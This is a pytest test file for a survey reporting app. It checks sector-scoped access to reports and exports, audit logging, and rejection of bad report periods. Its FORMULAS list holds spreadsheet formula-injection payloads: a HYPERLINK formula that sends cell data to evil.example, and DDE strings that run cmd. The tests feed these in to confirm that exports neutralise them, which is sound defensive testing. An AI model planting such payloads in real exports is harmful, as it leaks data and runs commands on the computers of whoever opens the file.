"""Reports and their files hold only what the reader's scope allows, and no cell of an export can
run as a spreadsheet formula.

The attack behind the first tests: a sector administrator (or sector viewer) of the
administrative sector opens the report of the province's own agency, an administrative agency
whose sub-units span every sector, and its files (responses, indices, PDF, prepare). Each must
hold the administrative sector only: no hospital, no school, none of their comments.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import docx
import openpyxl
import pytest
from flask.testing import FlaskClient
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

from survey.auth import policy_of
from survey.services.accounts import create_user
from survey.services.questionnaires import open_service_point
from survey.services.responses import submit_response
from survey.storage.models import AuditEvent, ServicePoint
from tests.factories import SmallProvince

PASSWORD = "tide-Marble-quiet-47-Lantern"
HEALTH_SECRET = "Bác sĩ khoa nội rất tận tâm"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+2",
)
REPORT_FILES = (
    "",
    "/responses.csv",
    "/responses.xlsx",
    "/indices.csv",
    "/indices.xlsx",
    "/report.pdf",
    "/report.docx",
    "/file",
    "/prepare?step=report",
    "/prepare?step=charts",
)


def _answer(
    session: Session, point: ServicePoint, n: int, comment: str | None, start: int = 0
) -> None:
    for i in range(start, start + n):
        found, questionnaire = open_service_point(session, point.public_code)
        submit_response(
            session,
            point=found,
            questionnaire=questionnaire,
            answers={item.code: 4 + i % 2 for item in questionnaire.items},
            idempotency_key=f"scope-{point.public_code}-{i:06d}",
            channel="qr",
            comment=comment,
            submitted_at=dt.datetime(2025, 3, 1 + i % 28, 3, tzinfo=dt.UTC),
        )


@pytest.fixture
def province(session: Session, seeded: SmallProvince) -> SmallProvince:
    _answer(session, seeded.desk, 35, "Thủ tục nhanh")
    _answer(session, seeded.counter, 35, HEALTH_SECRET)
    _answer(session, seeded.school_office, 35, "Trường sạch đẹp")
    return seeded


def _sign_in(client: FlaskClient, session: Session, username: str, **scope: object) -> None:
    create_user(session, username, PASSWORD, **scope)  # type: ignore[arg-type]
    session.commit()
    page = client.get("/admin/sign-in").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)
    assert token
    answer = client.post(
        "/admin/sign-in",
        data={"csrf_token": token.group(1), "username": username, "password": PASSWORD},
    )
    assert answer.status_code == 302


def _text_of(path: str, body: bytes) -> str:
    if path.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(body))
        return "\n".join(
            str(cell.value)
            for sheet in book.worksheets
            if sheet.title != "codebook"  # the codebook names every questionnaire, not data
            for row in sheet.iter_rows()
            for cell in row
        )
    if path.endswith(".pdf"):
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    if path.endswith(".docx"):
        document = docx.Document(io.BytesIO(body))
        cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
        return "\n".join([*(p.text for p in document.paragraphs), *cells])
    return body.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("role", "scope"),
    [("sector_admin", {"sector": "administrative"}), ("viewer", {"sector": "administrative"})],
)
@pytest.mark.parametrize("path", REPORT_FILES)
def test_a_sector_user_sees_only_their_sector_under_a_cross_sector_agency(
    client: FlaskClient,
    session: Session,
    province: SmallProvince,
    role: str,
    scope: dict[str, object],
    path: str,
):
    _sign_in(client, session, f"{role}.hc", role=role, **scope)
    separator = "&" if "?" in path else "?"
    answer = client.get(f"/reports/agency/{province.province.code}{path}{separator}period=2025-Q1")
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    text = _text_of(path, answer.data)
    for foreign in (province.hospital, province.school):
        assert foreign.code not in re.findall(r"[A-Z]+-[A-Z0-9]+", text)
        assert foreign.name_vi not in text and foreign.name_en not in text
    assert HEALTH_SECRET not in text
    assert "health" not in text.lower().split() and "education" not in text.lower().split()
    if path.startswith("/prepare"):
        assert answer.json == {"step": path.split("=")[1], "responses": 35}  # not 105
    if path == "/responses.csv":
        assert text.count("\n") == 35 + 1  # header and the department's answers


def test_a_province_administrator_still_sees_every_sector(
    client: FlaskClient, session: Session, province: SmallProvince
):
    _sign_in(client, session, "chief.all", role="province_admin")
    answer = client.get(f"/reports/agency/{province.province.code}/responses.csv?period=2025-Q1")
    text = answer.data.decode("utf-8-sig")
    assert text.count("\n") == 3 * 35 + 1
    assert HEALTH_SECRET in text


def test_the_report_cache_keeps_readers_of_different_scopes_apart(
    app, session: Session, province: SmallProvince
):
    admin, sector = app.test_client(), app.test_client()
    _sign_in(admin, session, "chief.cache", role="province_admin")
    _sign_in(sector, session, "hc.cache", role="sector_admin", sector="administrative")
    url = f"/reports/agency/{province.province.code}/responses.csv?period=2025-Q1"
    assert admin.get(url).data.decode("utf-8-sig").count("\n") == 106  # cached for the province
    assert sector.get(url).data.decode("utf-8-sig").count("\n") == 36  # not the cached copy
    assert admin.get(url).data.decode("utf-8-sig").count("\n") == 106


def test_every_export_is_written_in_the_audit_log(
    client: FlaskClient, session: Session, province: SmallProvince
):
    _sign_in(client, session, "chief.audit", role="province_admin")
    for path in ("/responses.csv", "/indices.xlsx", "/report.pdf"):
        assert client.get(f"/reports/sector/health{path}?period=2025-Q1").status_code == 200
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export.downloaded")
    ).all()
    assert [e.actor_name for e in events] == ["chief.audit"] * 3
    assert {e.subject for e in events} == {"report:sector/health"}
    files = [e.details["file"] for e in events]
    assert files[0].endswith(".csv") and files[1].endswith(".xlsx") and files[2].endswith(".pdf")
    assert events[0].details["rows"] == 35 and events[0].details["period"] == "2025-Q1"


@pytest.mark.parametrize("comment", FORMULAS)
def test_no_comment_becomes_a_formula_in_csv_or_xlsx(
    client: FlaskClient, session: Session, seeded: SmallProvince, comment: str
):
    _answer(session, seeded.desk, 1, comment)
    _sign_in(client, session, "chief.csv", role="province_admin")
    url = f"/reports/agency/{seeded.department.code}/responses"
    csv_text = client.get(f"{url}.csv?period=2025-Q1").data.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(csv_text))
    assert row["comment"] == "'" + comment.strip()  # shown as text, never run
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{url}.xlsx?period=2025-Q1").data))
    sheet = book["responses"]
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("comment") + 1)
    assert cell.data_type == "s"  # a string cell, never a formula ("f")
    assert cell.value == comment.strip()  # the text itself is kept as the citizen wrote it
    assert cell.quotePrefix  # editing the cell in Excel does not make it a formula either


@pytest.mark.parametrize(
    "query",
    [
        "period=9999",
        "period=0000",
        "period=0000-Q1",
        "from=0001-01-01&to=0001-12-31",
        "from=9999-12-01&to=9999-12-31",
        "period=2025-02-30..2025-03-01",
        "from=2025-01-01",
    ],
)
def test_impossible_report_periods_get_a_message_not_a_crash(
    client: FlaskClient, session: Session, province: SmallProvince, query: str
):
    _sign_in(client, session, "chief.period", role="province_admin")
    for path in ("", "/responses.csv", "/report.pdf"):
        answer = client.get(f"/reports/province/all{path}?{query}")
        assert answer.status_code == 400, (path, query, answer.status_code)
        body = answer.get_data(as_text=True)
        assert "Traceback" not in body
        assert re.search(r"period|date|year|năm|Ngày|Kỳ", body)


def test_every_report_route_is_in_the_cross_sector_check(app):
    """A report route added later must join REPORT_FILES above (and so the cross-sector test)."""
    covered = {re.sub(r"\?.*", "", path) for path in REPORT_FILES}
    for rule in app.url_map.iter_rules():
        policy = policy_of(app.view_functions[rule.endpoint])
        if policy is None or policy.report_args is None:
            continue
        suffix = rule.rule.split("/<key>", 1)[1]
        formats = ("csv", "xlsx") if "<fmt>" in suffix else ("",)
        for fmt in formats:
            assert suffix.replace("<fmt>", fmt) in covered, rule.rule


def test_export_responses_neutralises_formulas_and_is_logged(
    runner, session: Session, seeded: SmallProvince, tmp_path
):
    for i, comment in enumerate(FORMULAS):
        _answer(session, seeded.desk, 1, comment, start=i)
    session.commit()
    out = tmp_path / "responses.csv"
    result = runner.invoke(args=["export-responses", str(out), "--from", "2025-01-01"])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as file:
        comments = sorted(row["comment"] for row in csv.DictReader(file))
    assert comments == sorted("'" + comment.strip() for comment in FORMULAS)
    (event,) = session.scalars(select(AuditEvent).where(AuditEvent.action == "export.written"))
    assert event.actor_name == "system" and event.details["rows"] == len(FORMULAS)
    for day in ("9999-12-31", "0001-01-01"):
        far = runner.invoke(args=["export-responses", str(out), "--to", day])
        assert far.exit_code == 2 and "exports cover the years" in far.output, far.output


def test_the_province_page_lists_its_alerts(
    client: FlaskClient, session: Session, province: SmallProvince
):
    _sign_in(client, session, "chief.alerts", role="province_admin")
    page = client.get("/reports/province/all?period=2025-Q1").get_data(as_text=True)
    assert 'id="alerts"' in page
    assert "Không có cơ quan nào thấp hơn rõ rệt so với mục tiêu" in page  # Vietnamese by default
    agency_page = client.get(f"/reports/agency/{province.department.code}?period=2025-Q1")
    assert 'id="alerts"' not in agency_page.get_data(as_text=True)


def test_the_method_note_says_how_single_response_strata_are_treated(
    session: Session, province: SmallProvince
):
    from survey.services.filing.wording import method_note
    from survey.services.periods import parse_period
    from survey.services.reporting import build_report

    report = build_report(session, parse_period("2025-Q1"), cache=None)
    assert 'survey.lonely.psu = "adjust"' in method_note(report, "en")
    assert 'survey.lonely.psu = "adjust"' in method_note(report, "vi")


def build_report_for_ranks(session: Session):
    from survey.services.periods import parse_period
    from survey.services.reporting import build_report

    return build_report(session, parse_period("2025-Q1"), cache=None).ranks


def test_agencies_are_ranked_with_simultaneous_rank_intervals(
    client: FlaskClient, session: Session, seeded: SmallProvince
):
    for point, satisfied_every in (
        (seeded.desk, 1),
        (seeded.counter, 2),
        (seeded.school_office, 5),
    ):
        found, questionnaire = open_service_point(session, point.public_code)
        for i in range(60):
            overall = 5 if i % satisfied_every == 0 else 2
            submit_response(
                session,
                point=found,
                questionnaire=questionnaire,
                answers={
                    item.code: overall if item.is_overall else 4 for item in questionnaire.items
                },
                idempotency_key=f"rank-{point.public_code}-{i:06d}",
                channel="qr",
                submitted_at=dt.datetime(2025, 2, 1 + i % 28, 3, tzinfo=dt.UTC),
            )
    _sign_in(client, session, "chief.ranks", role="province_admin")
    page = client.get("/reports/province/all?period=2025-Q1&lang=en").get_data(as_text=True)
    assert 'id="ranks"' in page and "League table with rank intervals" in page
    vietnamese = client.get("/reports/province/all?period=2025-Q1&lang=vi")
    assert vietnamese.status_code == 200
    vi_page = vietnamese.get_data(as_text=True)
    assert "Bảng xếp hạng kèm khoảng tin cậy của thứ hạng" in vi_page
    wide = sum(line.ranked.wide for line in build_report_for_ranks(session))
    if wide:
        assert f"{wide} trong số 3 đơn vị được xếp hạng" in vi_page
    from survey.services.periods import parse_period
    from survey.services.reporting import build_report

    report = build_report(session, parse_period("2025-Q1"), cache=None)
    ranked = {line.key: line.ranked for line in report.ranks}
    assert set(ranked) == {seeded.department.code, seeded.hospital.code, seeded.school.code}
    best = ranked[seeded.department.code]  # everyone satisfied: rank 1
    assert best.rank == 1 and best.n_ranked == 3 and best.rank_low == 1
    for item in ranked.values():
        assert 1 <= item.rank_low <= item.rank <= item.rank_high <= 3
    assert ranked[seeded.school.code].rank == 3


def test_the_export_says_which_questionnaire_version_each_response_answered(
    client: FlaskClient, session: Session, province: SmallProvince
):
    _sign_in(client, session, "chief.version", role="province_admin")
    text = client.get("/reports/province/all/responses.csv?period=2025-Q1").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {(row["questionnaire"], row["questionnaire_version"]) for row in rows} == {
        ("administrative", "1"),
        ("health", "1"),
        ("education", "1"),
    }


def _answer_satisfied(session: Session, point: ServicePoint, n: int, satisfied: int) -> None:
    """``n`` responses in March 2025, the first ``satisfied`` of them 5 everywhere, the rest 2."""
    found, questionnaire = open_service_point(session, point.public_code)
    for i in range(n):
        submit_response(
            session,
            point=found,
            questionnaire=questionnaire,
            answers={item.code: 5 if i < satisfied else 2 for item in questionnaire.items},
            idempotency_key=f"bench-{point.public_code}-{i:06d}",
            channel="qr",
            submitted_at=dt.datetime(2025, 3, 1 + i % 28, 3, tzinfo=dt.UTC),
        )


def test_an_agency_manager_compares_with_sector_and_province_but_sees_no_other_agency(
    client: FlaskClient, session: Session, seeded: SmallProvince
):
    from survey.formatting import percent
    from survey.services.periods import parse_period
    from survey.services.reporting import build_report

    _answer_satisfied(session, seeded.desk, 35, 30)
    _answer_satisfied(session, seeded.counter, 35, 8)  # the hospital: 22.9% satisfied
    _answer_satisfied(session, seeded.school_office, 35, 20)  # the school: 57.1%
    period = parse_period("2025-Q1")
    province = build_report(session, period, cache=None).headline.estimate
    foreign = [
        build_report(session, period, "agency", agency.code, cache=None).headline.estimate
        for agency in (seeded.hospital, seeded.school)
    ]
    _sign_in(
        client, session, "manager.tp", role="agency_manager", scope_agency_id=seeded.department.id
    )
    page = client.get(f"/reports/agency/{seeded.department.code}?period=2025-Q1")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    block = html[html.index('id="compare"') : html.index("</section>", html.index('id="compare"'))]
    sector_row = re.search(r'id="compare-sector">(.*?)</tr>', block, re.S)
    province_row = re.search(r'id="compare-province">(.*?)</tr>', block, re.S)
    assert sector_row and "Dịch vụ hành chính công" in sector_row.group(1)
    assert "85,7%" in sector_row.group(1)  # the administrative sector: the department's desk
    assert province_row and "Tỉnh Thử Nghiệm" in province_row.group(1)
    assert percent(province.estimate, "vi") in province_row.group(1)
    for agency, estimate in zip((seeded.hospital, seeded.school), foreign, strict=True):
        assert agency.name_vi not in html and agency.name_en not in html
        assert agency.code not in re.findall(r"[A-Z]+-[A-Z0-9]+", html)
        assert percent(estimate.estimate, "vi") not in html  # no other agency's own figure
    # The aggregates are on the agency's page only: the province and sector pages stay closed.
    assert client.get("/reports/province/all?period=2025-Q1").status_code == 403
    assert client.get("/reports/sector/administrative?period=2025-Q1").status_code == 403
    # A filter cannot reach outside the subtree either: the health sector has nothing here.
    health = client.get(f"/reports/agency/{seeded.department.code}?period=2025-Q1&sector=health")
    assert health.status_code == 200 and seeded.hospital.name_vi not in health.get_data(
        as_text=True
    )


def test_the_reports_index_opens_on_the_latest_year_with_enough_responses(
    client: FlaskClient, session: Session, province: SmallProvince
):
    found, questionnaire = open_service_point(session, province.desk.public_code)
    for i in range(3):  # a few this year: not enough for a figure
        submit_response(
            session,
            point=found,
            questionnaire=questionnaire,
            answers={item.code: 4 for item in questionnaire.items},
            idempotency_key=f"this-year-{i:06d}-desk",
            channel="qr",
        )
    _sign_in(client, session, "chief.index", role="province_admin")
    answer = client.get("/reports/")
    assert answer.status_code == 302
    assert answer.headers["Location"].endswith("/reports/province/all?period=2025")
    page = client.get("/reports/province/all").get_data(as_text=True)  # no period: the same
    assert "Toàn tỉnh — Năm 2025" in page or "Tỉnh Thử Nghiệm — Năm 2025" in page
    assert 'id="at-a-glance"' in page and "cần ít nhất" not in page
    this_year = dt.datetime.now(dt.timezone(dt.timedelta(hours=7))).year
    if this_year > 2025:  # this year's page, too thin, points to the year that has a figure
        thin = client.get(f"/reports/province/all?period={this_year}").get_data(as_text=True)
        assert "cần ít nhất" in thin and 'id="suggested"' in thin
        assert "/reports/province/all?period=2025" in thin


@pytest.mark.parametrize("query", ["channel=fax", "level=ward", "sector=army", "channel=%00"])
def test_an_unknown_filter_is_a_message_not_a_crash(
    client: FlaskClient, session: Session, province: SmallProvince, query: str
):
    _sign_in(client, session, "chief.filter", role="province_admin")
    answer = client.get(f"/reports/province/all?period=2025-Q1&{query}")
    assert answer.status_code == 400
    body = answer.get_data(as_text=True)
    assert "không hợp lệ" in body and "Traceback" not in body


@pytest.mark.parametrize("fmt", ["pdf", "docx"])
def test_the_filed_report_of_a_sector_user_holds_only_their_sector(
    client: FlaskClient, session: Session, province: SmallProvince, fmt: str
):
    """The filing form's POST (not only its GET) stays in the reader's scope."""
    from tests.conftest import form_fields

    _sign_in(client, session, f"hc.file.{fmt}", role="sector_admin", sector="administrative")
    url = f"/reports/agency/{province.province.code}/file?period=2025-Q1"
    page = client.get(url).get_data(as_text=True)
    fields = form_fields(page) | {
        "issuing_body": "SỞ NỘI VỤ",
        "symbol": "BC-SNV",
        "place": "Điện Biên",
        "date": "2026-01-15",
        "title": "Kết quả khảo sát",
        "signer_title": "GIÁM ĐỐC",
        "signer_name": "Lò Văn Bình",
        "fmt": fmt,
    }
    answer = client.post(url, data=fields)
    assert answer.status_code == 200, answer.get_data(as_text=True)[:500]
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    text = _text_of(f"x.{fmt}", answer.data)
    assert "Lò Văn Bình" in text
    for foreign in (province.hospital, province.school):
        assert foreign.name_vi not in text and foreign.name_en not in text
    assert HEALTH_SECRET not in text
